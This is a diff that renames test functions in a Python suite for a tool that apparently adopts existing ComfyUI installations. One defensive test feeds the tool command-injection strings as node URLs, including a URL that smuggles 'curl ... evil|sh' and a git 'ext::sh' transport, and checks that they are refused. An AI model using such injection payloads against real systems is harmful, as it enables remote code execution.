@@ -83,7 +83,7 @@ def host(proposal: Proposal) -> dict[str, Any]:
     return found
 
 
-def test_what_a_rename_cannot_move_is_named_with_its_mount() -> None:
+def test_proposal_lists_folders_on_other_mounts() -> None:
     nas = {"point": "/mnt/nas", "what": "nas:/models", "type": "nfs4"}
     folders = {
         "models": folder("models", kind="link", real="/mnt/nas/comfy/models", mount=nas, rename=False),
@@ -101,7 +101,7 @@ def test_what_a_rename_cannot_move_is_named_with_its_mount() -> None:
     assert host(stays)["folders"]["output"] == "/opt/comfyui/ComfyUI/output"
 
 
-def test_what_lies_elsewhere_already_is_not_moved_into_the_data() -> None:
+def test_folders_configured_elsewhere_are_not_moved() -> None:
     facts = replace(FRESH, user=True, data=True)
     target = spark(folders={"models": "/srv/models"})
     folders = {"models": folder("models"), "output": folder("output")}
@@ -112,7 +112,7 @@ def test_what_lies_elsewhere_already_is_not_moved_into_the_data() -> None:
     assert (place, "hosts.toml places it in /srv/models") in found.left
 
 
-def test_a_home_folder_is_moved_but_never_referred_to() -> None:
+def test_home_folders_are_moved_but_never_referenced() -> None:
     folders = {"models": folder("models", real="/home/anna/ComfyUI/models")}
     assert proposed(folders=folders).moves.keys() == {"models"}
     stays = proposed("reference", folders=folders)
@@ -131,13 +131,13 @@ def test_a_home_folder_is_moved_but_never_referred_to() -> None:
         ("a", "/srv/a", ""),
     ],
 )
-def test_links_that_would_lead_nowhere_are_named(link: str, target: str, why: str) -> None:
+def test_links_that_would_break_are_reported(link: str, target: str, why: str) -> None:
     left = dict(proposed(folders={"models": folder("models", links={link: target})}).left)
     assert why in left.get(f"link /opt/comfyui/ComfyUI/models/{link} -> {target}", "")
     assert bool(left) == bool(why)
 
 
-def test_flags_are_taken_as_far_as_this_comfyui_knows_them() -> None:
+def test_only_flags_known_to_comfyui_are_adopted() -> None:
     words = "--listen --port 8190 --reserve-vram 2.5 --normalvram --use-flash-attention --enable-manager --cpu=1"
     found = proposed(argv=words.split(), units=[unit()])
     assert (host(found)["listen"], host(found)["port"], port(found.installation)) == ("0.0.0.0", 8190, 8190)
@@ -149,14 +149,14 @@ def test_flags_are_taken_as_far_as_this_comfyui_knows_them() -> None:
     assert "takes 0" in left["flag --cpu 1"]
 
 
-def test_the_profile_is_the_gpus() -> None:
+def test_profile_is_chosen_by_gpu() -> None:
     assert host(proposed())["profile"] == "dgx-spark"
     for gpus, profile in (((), "cpu"), ((Gpu("H100", "9.0", 1, False),), "cuda")):
         facts = replace(FRESH, gpus=gpus)
         assert host(propose(spark(), facts, installation(), KNOWN, FLAGS, "rename"))["profile"] == profile
 
 
-def test_more_model_folders_are_those_laid_out_as_comfyuis() -> None:
+def test_model_roots_need_comfyuis_layout() -> None:
     text = (
         "# an example\nnas:\n    base_path: /mnt/more/\n    is_default: true\n    checkpoints: checkpoints  # all\n"
         "    loras: |\n        loras\n        other/lora\n    custom_nodes: custom_nodes\n"
@@ -171,7 +171,7 @@ def test_more_model_folders_are_those_laid_out_as_comfyuis() -> None:
     ]
 
 
-def test_nodes_are_known_or_can_be_listed_or_have_a_reason() -> None:
+def test_nodes_are_known_or_addable_or_have_a_reason() -> None:
     listed = [
         found_node("pinned", url="git@example.org:pinned"),
         found_node("other"),
@@ -200,7 +200,7 @@ def test_nodes_are_known_or_can_be_listed_or_have_a_reason() -> None:
     assert "the host has no git" in dict(found.left)["edits of unread"]
 
 
-def test_one_installation_must_be_meant() -> None:
+def test_several_installations_need_a_choice() -> None:
     two = Survey(("/a", "/b"), (installation(path="/a"), installation(path="/b")))
     with raises("no-installation", match="2 installations of ComfyUI: /a, /b"):
         only(two, "spark")
@@ -209,7 +209,7 @@ def test_one_installation_must_be_meant() -> None:
     assert "/opt/x" in none.value.cause
 
 
-def test_the_plan_stops_what_runs_and_moves_folder_by_folder() -> None:
+def test_plan_stops_old_units_and_moves_each_folder() -> None:
     found = proposed(folders={"models": folder("models"), "user": folder("user")}, units=[unit()])
     options = plan.Options()
     assert kinds(adopt.take_over(spark(), FRESH, found, options)) == ["retire", "account", "folders", "adopt", "adopt"]
@@ -224,13 +224,13 @@ def test_the_plan_stops_what_runs_and_moves_folder_by_folder() -> None:
         ({}, "user", "no-root"),
     ],
 )
-def test_what_cannot_be_adopted_is_refused(values: dict[str, Any], scope: str, kind: str) -> None:
+def test_unadoptable_installation_is_refused(values: dict[str, Any], scope: str, kind: str) -> None:
     planned = adopt.take_over(spark(scope=scope), FRESH, proposed(units=[unit()], **values), plan.Options())
     assert not planned.steps
     assert reasons(planned) == [kind]
 
 
-def test_undoing_takes_the_release_out_of_service_first() -> None:
+def test_undo_first_takes_release_out_of_service() -> None:
     adopted = replace(FRESH, adopted=True, current="r1")
     assert kinds(adopt.put_back(spark(), adopted, plan.Options())) == ["withdraw", "unadopt"]
     assert kinds(adopt.put_back(spark(), FRESH, plan.Options())) == []
@@ -251,7 +251,7 @@ def test_undoing_takes_the_release_out_of_service_first() -> None:
         ("/usr/sbin/nginx -g main", ("", [])),
     ],
 )
-def test_how_it_is_started_is_read(tmp_path: Path, command: str, expected: tuple[str, list[str]]) -> None:
+def test_start_command_is_read(tmp_path: Path, command: str, expected: tuple[str, list[str]]) -> None:
     script = tmp_path / "run.sh"
     script.write_text('#!/bin/sh\n# starts it\ncd /opt/s\nexec python main.py --cpu \\\n  --port 3 "$@"\n')
     assert survey._started(command.replace("SCRIPT", str(script)), "/wd") == expected
@@ -262,7 +262,7 @@ def git(place: Path, *words: str) -> str:
     return subprocess.run(argv, capture_output=True, text=True, check=True).stdout.strip()
 
 
-def test_a_repository_is_read_and_nothing_that_it_names_is_run(tmp_path: Path) -> None:
+def test_reading_a_repository_runs_no_program(tmp_path: Path) -> None:
     place, ran = tmp_path / "node", tmp_path / "ran"
     place.mkdir()
     (place / "one.py").write_text("1\n")
@@ -301,7 +301,7 @@ def tree(root: Path) -> dict[str, tuple[int, str]]:
     }
 
 
-def test_folders_in_both_places_are_brought_together_and_apart_again(tmp_path: Path) -> None:
+def test_folders_are_merged_and_separated_again(tmp_path: Path) -> None:
     place, old = layout(tmp_path), tmp_path / "old/models"
     files = {"loras/a": "old a", "loras/b": "old b", "checkpoints/c": "c", "same": "old"}
     for root, contents in ((old, files), (place.data / "models", {"loras/b": "new b", "same": "new", "vae/v": "v"})):
@@ -328,7 +328,7 @@ def test_folders_in_both_places_are_brought_together_and_apart_again(tmp_path: P
     assert not AdoptionJournal(place).path.exists()
 
 
-def test_what_runs_as_its_owner_does_so_neither_afterwards_nor_when_it_is_put_back(tmp_path: Path) -> None:
+def test_setuid_bits_are_dropped_on_adopt_and_undo(tmp_path: Path) -> None:
     place, old = layout(tmp_path), tmp_path / "old/output"
     old.mkdir(parents=True)
     for name in ("a.png", "b.png"):
@@ -345,7 +345,7 @@ def test_what_runs_as_its_owner_does_so_neither_afterwards_nor_when_it_is_put_ba
     assert [(old / name).stat().st_mode & 0o7777 for name in ("a.png", "b.png", ".")] == [0o755, 0o4700, 0o2755]
 
 
-def test_files_of_others_are_left_to_them(tmp_path: Path) -> None:
+def test_files_of_other_users_keep_their_owner(tmp_path: Path) -> None:
     (tmp_path / "theirs").write_text("")
     (tmp_path / "theirs").chmod(0o600)
     with opened(tmp_path) as here:
@@ -355,7 +355,7 @@ def test_files_of_others_are_left_to_them(tmp_path: Path) -> None:
     assert (tmp_path / "theirs").stat().st_mode & 0o777 == 0o600
 
 
-def test_a_folder_that_anybodys_process_names_is_not_taken(tmp_path: Path) -> None:
+def test_folder_named_by_a_foreign_process_is_not_adopted(tmp_path: Path) -> None:
     me = os.geteuid()
     assert survey._foreign(tmp_path, {me}) == ""
     assert survey._foreign(tmp_path, {me + 1}).startswith(f"it belongs to user {me}, ")
@@ -368,20 +368,20 @@ def test_a_folder_that_anybodys_process_names_is_not_taken(tmp_path: Path) -> No
     assert found.left == (("output in /opt/hbob/private", "it belongs to user 7"),)
 
 
-def test_an_address_that_everybody_reaches_is_said_so() -> None:
+def test_public_address_is_marked_in_proposal() -> None:
     found = proposed(argv=["--listen", "0.0.0.0"], processes=[{"pid": 1, "user": "anna", "unit": ""}])
     (line,) = (line for line in found.snippet.splitlines() if line.startswith("listen"))
     assert line == 'listen = "0.0.0.0"    # WHOEVER REACHES THIS ADDRESS CAN USE IT, without a password'
 
 
-def test_a_command_to_copy_runs_nothing_else() -> None:
+def test_proposed_commands_are_quoted() -> None:
     urls = ["https://github.com/x/y;curl${IFS}evil|sh;#", "ext::sh -c id", "--upload-pack=x", "https://u:p@host/x"]
     found = proposed(nodes=[found_node(f"n{number}", url=url) for number, url in enumerate(urls)])
     assert found.add == ()
     assert [what for what, _ in found.left] == ["node n0", "node n1", "node n2", "node n3"]
 
 
-def test_a_rename_overwrites_nothing_and_follows_no_link(tmp_path: Path) -> None:
+def test_rename_overwrites_nothing_and_follows_no_links(tmp_path: Path) -> None:
     for name in ("a/x", "b/x"):
         (tmp_path / name).parent.mkdir()
         (tmp_path / name).write_text(name)
@@ -395,13 +395,13 @@ def test_a_rename_overwrites_nothing_and_follows_no_link(tmp_path: Path) -> None
     assert ((tmp_path / "b/x").read_text(), (tmp_path / "b/y").read_text()) == ("b/x", "a/x")
 
 
-def test_a_pipe_instead_of_a_file_holds_nobody_up(tmp_path: Path) -> None:
+def test_pipe_in_place_of_a_file_does_not_block(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "HEAD")
     assert read_text(tmp_path / "HEAD") == ""
 
 
 @pytest.mark.parametrize("size", [10**13, 3])
-def test_a_database_of_any_size_does_not_keep_undoing_from_its_end(tmp_path: Path, size: int) -> None:
+def test_large_database_does_not_prevent_undo(tmp_path: Path, size: int) -> None:
     place, old = layout(tmp_path), tmp_path / "old/user"
     old.mkdir(parents=True)
     (old / "comfyui.db").write_text("old")
@@ -421,7 +421,7 @@ def test_a_database_of_any_size_does_not_keep_undoing_from_its_end(tmp_path: Pat
     assert newer.stat().st_size == size
 
 
-def test_a_database_beyond_all_is_not_adopted(tmp_path: Path) -> None:
+def test_oversized_database_is_not_adopted(tmp_path: Path) -> None:
     place, old = layout(tmp_path), tmp_path / "old/user"
     old.mkdir(parents=True)
     (old / "comfyui.db").touch()
@@ -431,7 +431,7 @@ def test_a_database_beyond_all_is_not_adopted(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("levels", [1400])
-def test_labyrinths_in_both_places_are_left_where_they_are(tmp_path: Path, levels: int) -> None:
+def test_deeply_nested_trees_are_not_moved(tmp_path: Path, levels: int) -> None:
     place, old = layout(tmp_path), tmp_path / "old/output"
     old.parent.mkdir()
     for root in (old, place.data / "output"):
@@ -444,7 +444,7 @@ def test_labyrinths_in_both_places_are_left_where_they_are(tmp_path: Path, level
 
 
 @pytest.mark.parametrize("levels", [150, 1400])
-def test_a_labyrinth_is_no_folder_of_comfyuis(tmp_path: Path, levels: int) -> None:
+def test_deeply_nested_tree_is_not_a_comfyui_folder(tmp_path: Path, levels: int) -> None:
     deep(tmp_path / "output", levels)
     owners = {os.geteuid()}
     found = survey._folder(tmp_path / "output", tmp_path / "data", owners)
@@ -457,7 +457,7 @@ def test_a_labyrinth_is_no_folder_of_comfyuis(tmp_path: Path, levels: int) -> No
     remove(tmp_path / "output")
 
 
-def test_links_to_links_without_an_end_are_no_installation(tmp_path: Path) -> None:
+def test_link_loops_are_not_an_installation(tmp_path: Path) -> None:
     (tmp_path / "main.py").touch()
     before = "main.py"
     for number in range(1200):
@@ -519,7 +519,7 @@ def test_a_repository_is_read_as_its_owner(monkeypatch: pytest.MonkeyPatch) -> N
         ("/mnt/a:b", "/mnt/a:b"),
     ],
 )
-def test_what_an_installation_keeps_secret_is_not_shown(text: str, shown: str) -> None:
+def test_secrets_of_an_installation_are_hidden(text: str, shown: str) -> None:
     found = {"argv": ["main.py", text, "--api-key", "hunter2", "--port", "1"], "nodes": [{"url": text, "n": 1}]}
     clean = without_secrets(found)
     assert clean["argv"] == ["main.py", shown, "--api-key", "***", "--port", "1"]
@@ -530,5 +530,5 @@ def test_what_an_installation_keeps_secret_is_not_shown(text: str, shown: str) -
         assert left == [("flag --x", "it is a secret, and a command line is visible to other users: inv secret set")]
 
 
-def test_an_address_is_of_use_without_who_asks() -> None:
+def test_address_is_shown_without_credentials() -> None:
     assert without_secrets({"url": "https://anna:pw@host/x.git"}) == {"url": "https://host/x.git"}
